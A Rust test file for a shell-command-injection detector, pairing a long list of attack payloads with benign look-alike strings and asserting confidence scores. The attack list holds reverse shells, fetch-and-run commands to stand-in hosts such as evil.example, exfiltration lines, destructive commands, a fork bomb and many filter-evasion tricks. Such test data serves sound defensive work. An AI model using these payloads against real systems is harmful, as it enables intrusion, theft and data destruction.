use super::super::properties::check_properties;
use super::super::tests::{check_table, confidence};
use super::super::{Context, Detector, Place};

const ATTACKS: &[&str] = &[
    "old|echo csdzk|md5sum",
    "cls_mode_login\necho iamfw|md5sum\n",
    "$(echo x|md5sum)",
    "$(tr '!-}' '\"-~'<<<'vgnbnh')",
    ";$(tr '!-}' '\"-~'<<<'vgnbnh')$(:wcke);",
    "x;shutdown -h now",
    "x&shutdown /s /t 0",
    "x;dig @evil.example x",
    "|id iyew",
    "sleep 58|jzooz",
    "push graphic-context\nfill 'url(https://a\"|id \"ccawj)'\npop graphic-context",
    "127.0.0.1;                                        wget http://e.com/x -O /tmp/x",
    "127.0.0.1;. /tmp/x.sh",
    "127.0.0.1;/tmp/x",
    "127.0.0.1;./x.sh",
    "127.0.0.1;env wget http://e.com/x",
    "127.0.0.1;! curl http://e.com/a",
    "127.0.0.1;if curl http://e.com/a;then :;fi",
    "127.0.0.1;while curl http://e.com/a;do :;done",
    "127.0.0.1;socat tcp:1.2.3.4:44 exec:/bin/sh",
    "127.0.0.1;shutdown -h now",
    "127.0.0.1;schtasks /create /tn x /tr c:\\x.exe",
    "127.0.0.1;kill -9 -1",
    "127.0.0.1;redis-cli flushall",
    "127.0.0.1;{ id; }",
    "127.0.0.1;(id)",
    "127.0.0.1;(curl http://e.com/a)",
    "x;w`u`h`u`o`u`a`u`m`u`i;",
    "127.0.0.1$(ps aux)",
    "||$(ps aux)||x",
    "127.0.0.1|expr 69529 + 75582",
    "x$(id>a)",
    "-o /var/www/html/a.php http://evil.example/a.txt",
    "x;cat /etc/passwd\n|a |b |\n|c |d |",
    "|cat /etc/passwd |\nx",
    "|id|\n;cat /etc/passwd",
    "$x=qx{id}",
    "print qx/cat flag.txt/",
    "a%x[cat flag]",
    "127.0.0.1|set",
    "x&lt;cat /etc/passwd",
    "http://his.local/s?q=1 | cat /etc/passwd 结果多一行",
    r#"{"host":"127.0.0.1;cat /etc/passwd","n":1}"#,
    r"'File \x22a\x22, line 1, in f\n'+os.system('id')",
    "'File \\\"a.py\\\", line 1, in f\\n';os.system('id')",
    "f'File \\\"a.py\\\", line 1, in f\\n {os.system(1)}'",
    "a&copy c:\\x d:\\y&",
    "1;cp a /app",
    "see /a/b;id;",
    "x;cat a https://a.cn >/tmp/x",
    "127.0.0.1;node -v",
    "x;curl https://a.cn/x.html",
    "8.8.8.8\nip -o link",
    ";ip -br addr",
    "import os,pty;s=1",
    "File \"/app/x.py\", line 3, in f\n\n__import__('os').system('id')",
    "x = 1\nFile \"/app/x.py\", line 3, in f\n    pass\nos.system('id')",
    "'''\n  File \"/app/x.py\", line 3, in f\n''';os.system('id')",
    "\"\\\n  File \"/app/x.py\", line 3, in f\n\";os.system('id')",
    "127.0.0.1; find / replace",
    "张三丰; net stop spooler & net user a b /add",
    "网络不通; ping 1.1.1.1 & cat /etc/passwd",
    "--config=core.sshCommand=touch /tmp/x",
    ";cat /etc/passwd",
    "127.0.0.1;id",
    ";id",
    "||id",
    "&&id",
    "&& id #",
    ";id;",
    "|id|",
    "';id;'",
    "\";id;\"",
    "1;id",
    "|whoami",
    "127.0.0.1 | whoami",
    "127.0.0.1&&whoami",
    "x || whoami",
    "a\nwhoami",
    "127.0.0.1\nid",
    "$(whoami)",
    "$(id)",
    "`id`",
    "`whoami`",
    "x`id`",
    "$(sleep 5)",
    "`sleep 5`",
    ";sleep 10",
    "|sleep 10|",
    "& ping -n 10 127.0.0.1 &",
    "||ping -i 30 127.0.0.1 ; x || ping -n 30 127.0.0.1 &",
    "127.0.0.1 && ls -la /",
    ";ls -la",
    "|ls",
    "|dir",
    "| dir C:\\",
    "|type C:\\Windows\\win.ini",
    "$(cat /etc/passwd)",
    "$(curl http://evil.example/x.sh|sh)",
    "; curl http://evil.example/`whoami`",
    ";wget http://evil.example/x -O /tmp/x",
    "|nc -e /bin/sh 10.0.0.1 4444",
    ";bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    ";c'a't /e't'c/passwd",
    ";c\\at /et\\c/pas\\swd",
    ";wh\"\"oami",
    ";w'h'o'am'i",
    ";who$@ami",
    ";who``ami",
    "&w^h^o^a^m^i",
    ";cat$IFS/etc/passwd",
    ";cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    ";{cat,/etc/passwd}",
    ";{ls,-la}",
    ";/???/c?t /???/p??s??",
    ";/usr/bin/id",
    ";cat</etc/passwd",
    ";$'\\x63\\x61\\x74' /etc/passwd",
    ";a=c;b=at;$a$b /etc/passwd",
    ";cat ${PATH:0:1}etc${PATH:0:1}passwd",
    "() { :;}; /bin/bash -c \"id\"",
    "|powershell -enc SQBFAFgA",
    "cmd.exe /c dir",
    "cmd /c whoami",
    "powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://e.example/a')",
    "=cmd|' /C calc'!A0",
    "cat /etc/passwd",
    "/bin/cat /etc/passwd",
    "/bin/ls -al",
    "bash -c 'id'",
    "echo YmFzaCAtaQ==|base64 -d|bash",
    ";echo 'f4a2c1'",
    ";echo a1b2c3d4e5",
    ";nslookup x.evil.example",
    "& nslookup evil.example &",
    ";uname -a",
    ";expr 41 \\* 77",
    "a;php -r 'phpinfo();'",
    ";python3 -c 'import os'",
    "|ls \"-la\"",
    "<!--#exec cmd=\"ls\" -->",
    "x; rm -rf /",
    ";busybox wget http://evil.example/m -O /tmp/m",
    "%COMSPEC% /c dir",
    "net user hacker P@ss /add",
    ";ifconfig",
    "|ipconfig /all",
    ";net user",
    ";tasklist",
    "$(printf 'aaa' | md5sum)",
    "`nslookup x.evil.example`",
    "'|whoami||'",
    "0;env",
    "1|ps -ef",
    ";cat+/etc/passwd",
    ";\"cat\" /etc/passwd",
    "1;pwd # x",
    ";echo test",
    "$(echo 1234567)",
    "`echo abcdef`",
    "& echo abcdef &",
    "|expr 123 + 456",
    ";tac flag",
    ";cat f*",
    "1&&id",
    "--upload-pack=touch /tmp/x",
    "-oProxyCommand=curl",
    "<!--#include file=\"/etc/passwd\"-->",
    "cat /[e]tc/pa?swd",
    ";iwr http://evil.example/a.ps1",
    "& FOR /F \"delims=\" %G IN ('SET') DO @Echo %G",
    ":(){ :|:& };:",
    "__import__('os').popen('id').read()",
    "os.system('id')",
    "@{[system 'whoami']}",
    "IO.popen('id').read",
    "%x(id)",
    "powershell C:\\windows\\system32\\notepad.exe",
    "/usr/bin/id",
    "/sbin/ifconfig",
    "C:\\Windows\\System32\\cmd.exe",
    "/usr/bin/sudo /usr/bin/id",
    "/bin/df -h",
    "/bin/c\"\"at",
    "/bin/cat</etc/passwd",
];

const HONEST: &[&str] = &[
    "interface x; shutdown",
    "table, tr { color: red }",
    "echo $info |tr ',' ' ' |(read i1 i2",
    "sleep 8|9 h",
    "echo 心脏超声|base64",
    "push graphic-context\nfill 'url(#gradient)'\npop graphic-context",
    "下午复诊;                    请提前到",
    "we close at five; if sort order matters, say so",
    "; if the host is down",
    "see text; (id) is the key of the table",
    "his CRON[99]: (root) CMD (test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily ))",
    "/var/lib;/tmp/x",
    "a.js;./b.js",
    "kill -9 是什么意思",
    "docker run -v 的用法",
    "docker ps -a; docker logs his --tail 100; 显示 'exec format error'",
    "kubectl get pods -n his; CrashLoopBackOff; kubectl logs his-0 --previous",
    "if more than one; then two",
    "tcp:10.0.0.1",
    "env set; env var",
    "shutdown;reboot",
    "{ id; name }",
    "`a`和`b`的区别",
    "-o /tmp/a",
    "ps aux",
    "用 expr 1 + 2 计算",
    "-o 输出 http://www.example.org/",
    "|cd /          |切换到根目录    |\n|--------------+----------------|\n|cd ..         |上一级          |",
    "while 条件 ; do command ; done",
    "data:image/png;base64,iVBOR+qx/iU5Hi3Rvy/nN2x",
    "data:image/png;base64,iVBOR qx/UwFLnS7N247/x5RJ",
    "Q7Kp|w$DXeSEliT0",
    "m%X[j97rMm89L]82b",
    "edit port1\n set ip 10.1.1.1 255.255.255.0\n",
    "http://his.local/s?q=ls -l | wc -l 结果多一行",
    r#"{"rows":[{"id":"1","text":"Kill the noise; sort it out","day":"2026-10-27"}],"total":1}"#,
    r#"{"rows":[{"text":"it didn't work; echo what Tom said","day":"2026-10-27"}],"total":1}"#,
    r#"{"message":"Traceback (most recent call last):\n  File \"/app/a.py\", line 3, in start\n    subprocess.run(args, check=True)\nFileNotFoundError"}"#,
    "<message>Traceback (most recent call last):\n  File &quot;/app/x.py&quot;, line 1, in &lt;module&gt;\n    import os; import foo\nModuleNotFoundError</message>",
    "FROM alpine\nRUN apk add --no-cache curl\nCOPY . /app",
    "Bring: salad / dessert; date & time TBC",
    "see the cat; more details at https://a.cn/x.html",
    "interface GigabitEthernet0/0/1\n ip address 10.1.1.1 255.255.255.0\n#",
    "ip routing\nip domain-name his.local\nip name-server 10.1.1.53",
    "Host jump\n  HostName 10.0.0.9",
    "import os, sys",
    "Traceback (most recent call last):\n  File \"/app/x.py\", line 3, in <module>\n    import os; import foo\nModuleNotFoundError: No module named 'foo'",
    "Traceback (most recent call last):\n  File \"/app/a.py\", line 9, in main\n    run(cmd)\n  File \"/app/b.py\", line 3, in run\n    subprocess.run(cmd, check=True)\nFileNotFoundError: [Errno 2]",
    "打印机报 0x0000011b; 已执行 net stop spooler & net start spooler",
    "升级步骤: cd /opt/his && ./stop.sh; cp his.jar his.jar.bak; ./start.sh; 观察 5 分钟",
    "ls -l | grep txt | wc -l 的含义",
    "ping 127.0.0.1 -n 4; ipconfig /all; netstat -an 分别的作用",
    "{\"stem\":\"看日志: tail -n 100 /var/log/messages | grep -i oom; 结果: Out of memory\"}",
    "cmd /c 参数的解决办法",
    "use \"Go to Definition\" (or Cmd/Ctrl+Click) on the import",
    "R&D",
    "B&W",
    "A&E department",
    "Q&A",
    "cats & dogs",
    "cat food",
    "best cat food; find a doctor near me",
    "the cat sat; the dog ran",
    "choose; select one from list",
    "more; find out below",
    "type; time; host",
    "echo check; find a date",
    "advice: diet; sleep 8 hours a day",
    "salt & pepper; bread & butter",
    "who | what | when",
    "name|id|type",
    "name;id;type",
    "id|name",
    "date|time",
    "sh|600000",
    "600000|sh",
    "fields=name,id",
    "head & neck",
    "kill or cure",
    "MSH|^~\\&|LIS|HOSP|EMR|HOSP|20261120083000||ORU^R01|MSG00001|P|2.4",
    "PID|1||12345^^^HOSP^MR||ZHANG^SAN||19900307|M|||^^BEIJING^^100000^CHN",
    "https://example.org/search?q=blood+test&type=1&id=5&set=2&time=3",
    "/report/view?id=1024&type=pdf&host=a&ps=20&w=100&date=2026-01-01&sort=-x&dir=asc",
    "?a=1&w=100&h=50&id",
    "Use `python` or `host` for `user`",
    "`name` and `type` = `x`",
    "`id` is the key",
    "$(id).show()",
    "$(this).find('.more').hide();",
    "$(document).ready(function(){ $('#date').val(1); });",
    "if (a || id) { sort(a); }",
    "a||id==5",
    "{id,name,date}",
    "{user{id,name},date}",
    "${date}",
    "{{ x | date:'yyyy-MM-dd' }}",
    "{{ items | sort }}",
    "&nbsp;more text&nbsp;head office",
    "&lt;id&gt;",
    "a &amp; cat",
    "text/html; charset=utf-8; date=1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0",
    "Mozilla/5.0 (Linux; Android 14; V2302A Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0 Mobile Safari/537.36",
    "width:1px;top:2px;cut:3px",
    "O2 (sat) = 98%; HR = 72",
    "gc ; Ps ; Open",
    "患者主诉:头晕;find 无;date 2026-01-01",
    "git pull && npm install",
    "for (let i = 0; i < 10; i++) {}",
    "192.168.1.1;192.168.1.2",
    "server01 | server02 | server03",
    "key=value;key2=value2",
    "O'Brien; host of the party",
    "first line\nmore\nless\nid\ndate",
    "10;20;30",
    "a|b|ls|c|d",
    "whoami 是什么意思",
    "how to use ping command",
    "C:\\Users\\wang\\Desktop\\报告.docx",
    "var a=1;date=new Date();id=5;env='prod'",
    "SELECT 语句怎么写",
    "x=>x.id|0;set(y)",
    "/api/list;jsessionid=1F2?date=1&top=5",
    "pdf & file",
    "Tom & Jerry; host: localhost",
    "it's `date` and `time`",
    "Cookie: a=b; id=5; w=3",
    "BTC|ETH|w",
    "| cat food | price |",
    "|sort|by|",
    "&echo test=1",
    "x; date = new Date(\"/a/b\"); id = 'zr' + 1",
    "export const A = /*#__PURE__*/React.createContext(x);\nlet b = c.d();",
    "x = function () {\n return this.value;\n };",
    "import os from 'x'",
    "the os.system of the body",
    "for 5% in (a) do",
    "left; right; top",
    "java -jar app.jar",
    "<p>more</p>;<b>less</b>",
    "1、清洗;2、消毒;3、sleep",
    "/usr/bin/ssh",
    "/bin/ping6",
    "/bin/df",
    "/bin/bash",
    "/usr/bin/php",
    "/usr/bin/sudo /usr/bin/rsync",
    "C:\\Windows\\System32\\tar.exe",
];

#[test]
fn commands_that_a_shell_would_run_are_confirmed() {
    check_table(Detector::Shell, Context::of(Place::Value), 80, ATTACKS, HONEST);
}

#[test]
fn a_value_that_is_only_a_tool_name_counts_but_does_not_block() {
    for value in ["whoami", "ipconfig", "uname -a", "ls -la"] {
        let sure = confidence(Detector::Shell, value.as_bytes(), Context::of(Place::Value));
        assert!((40..80).contains(&sure), "{sure} for {value}");
    }
}

#[test]
fn a_line_of_a_manual_counts_one_point() {
    for value in ["vim /etc/profile", "tail -f /var/log/nginx/access.log", "cd /usr/local"] {
        let sure = confidence(Detector::Shell, value.as_bytes(), Context::of(Place::Value));
        assert!(sure < 60, "{sure} for {value}");
    }
}

#[test]
fn prose_about_commands_does_not_block() {
    let text = "进入服务器后先执行以下命令查看用户;cat /etc/passwd 然后重新启动服务即可完成全部配置";
    let sure = confidence(Detector::Shell, text.as_bytes(), Context::of(Place::Value));
    assert!((40..80).contains(&sure), "{sure}");
}

#[test]
fn code_in_a_sentence_does_not_block() {
    for value in [
        "performance when running `find /` on it",
        "run `python3 gen.py` first",
        "请执行 `ls -la` 查看",
        "Env: Ubuntu 20.04; node -v 18; npm -v 9",
        "Kill the noise; find / replace; sort it out",
    ] {
        let sure = confidence(Detector::Shell, value.as_bytes(), Context::of(Place::Value));
        assert!(sure < 80, "{sure} for {value}");
    }
}

#[test]
fn an_entity_in_a_body_of_markup_separates_no_commands() {
    let of = |value: &str| confidence(Detector::Shell, value.as_bytes(), Context::of(Place::BodyText));
    assert!(of("<t>edit &quot;port1&quot;\n set ip 10.1.1.1 255.255.255.0</t>") < 80);
    assert!(of("<t>edit port1;\n cat /etc/passwd</t>") >= 80);
    assert!(of("<t>&lt;&lt; ;cat /etc/passwd</t>") >= 80);
    assert!(of("a=&lt;cat /etc/passwd") >= 80, "no markup");
}

#[test]
fn responses_run_nothing() {
    assert_eq!(confidence(Detector::Shell, b";cat /etc/passwd", Context::of(Place::ResponseBody)), 0);
}

#[test]
fn shell_findings_meet_the_requirement_in_linear_work() {
    check_properties(
        Detector::Shell,
        &[
            ";",
            "|",
            "&&",
            "`",
            "$(",
            "${IFS}",
            "$IFS$9",
            "cat",
            "id",
            " ",
            "/etc/passwd",
            "'",
            "\"",
            "\\",
            "^",
            "{cat,",
            "}",
            ")",
            "/???/c?t",
            "/*/*/*/*",
            "sh -c ",
            "powershell -enc ",
            "$'\\x63",
            "a=c;",
            "$a",
            "<",
            ">",
            "/dev/tcp/1/2",
            "() { :;};",
            "\n",
            "sudo ",
            "env ",
            "cp ",
            "/opt/x ",
            "~/a",
            "\t",
            "cmd /c ",
            "curl http://x|sh",
            "nc -e /bin/sh",
            "rm -rf /",
            "${",
            "$(echo",
            "ls -la",
            "=",
        ],
    );
}

#[test]
fn a_segment_is_read_without_the_suffix_of_a_page() {
    for attack in ["/d/127.0.0.1 | whoami.html", "/d/127.0.0.1;id.php"] {
        assert!(confidence(Detector::Shell, attack.as_bytes(), Context::of(Place::Path)) >= 80, "{attack}");
    }
    for honest in ["/d/a | b.html", "/d/R&D.html"] {
        assert!(confidence(Detector::Shell, honest.as_bytes(), Context::of(Place::Path)) < 80, "{honest}");
    }
}

#[test]
fn comment_as_the_program_of_a_shell_runs_nothing() {
    let value = Context::of(Place::Value);
    for honest in [
        "/bin/sh -c #(nop) ADD file:lab.conf in /etc/lab/ ",
        "/bin/sh -c #(nop)  CMD [\"nginx\" \"-g\" \"daemon off;\"]",
    ] {
        assert!(confidence(Detector::Shell, honest.as_bytes(), value) < 40, "{honest}");
    }
    for attack in [
        "/bin/sh -c #(nop)\ncat /etc/passwd",
        "/bin/sh -c #(nop);cat /etc/passwd",
        "/bin/sh -c a#(nop)",
        "/bin/sh -c '#(nop)'\nid",
        "/bin/sh -c id #(nop)",
    ] {
        assert!(confidence(Detector::Shell, attack.as_bytes(), value) >= 80, "{attack}");
    }
}

#[test]
fn commands_marked_as_code_in_a_line_of_words_are_doubtful() {
    let value = Context::of(Place::Value);
    for honest in [
        "The wifi script from IT: `ipconfig /release && ipconfig /renew`, then it works again",
        "Ran `cd /opt/his && tar xzf /tmp/a.tgz` on the kiosk, works now",
        "重启用 `cd /opt/his && cp -r a /tmp/cache` 就好",
    ] {
        let sure = confidence(Detector::Shell, honest.as_bytes(), value);
        assert!((1..80).contains(&sure), "{honest}: {sure}");
    }
    for attack in [
        "a `cat /etc/passwd && cp a /tmp/x` b",
        "from IT, good`cat /etc/passwd && cp a /tmp/x`morning to you",
        "from IT `;cat /etc/passwd && cp a /tmp/x`",
        "from IT `wifi` for you; cat /etc/passwd && cp a /tmp/x #`a`",
        "from IT for you `curl http://x.example/a.sh | sh`",
        "from IT for you `id && $(cat /etc/passwd)`",
    ] {
        let sure = confidence(Detector::Shell, attack.as_bytes(), value);
        assert!(sure >= 80, "{attack}: {sure}");
    }
}

#[test]
fn a_command_behind_many_others_is_read() {
    for lead in ["a;", "ls;", "\n", "\n \t", ";{ ", ";("] {
        let value = [lead.repeat(3000), ";wget http://e.com/x -O /tmp/x".into()].concat();
        assert!(confidence(Detector::Shell, value.as_bytes(), Context::of(Place::Value)) >= 60, "{lead:?}");
    }
}
